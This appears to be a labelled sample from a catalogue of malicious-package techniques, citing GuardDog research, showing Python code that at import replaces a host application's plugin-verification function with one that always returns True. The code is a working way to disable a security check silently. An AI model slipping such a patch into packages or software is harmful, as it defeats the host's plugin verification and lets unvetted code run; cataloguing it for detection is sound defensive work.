# technique: replacing the host's plugin loader at import (persistence inside the host)
# class: host-tampering
# source: Datadog Security Labs, GuardDog notes on monkey-patching the host application
# declares:
import milkbottle.registry


def _allow_all(*args, **kwargs):
    return True


milkbottle.registry.verify_plugin = _allow_all
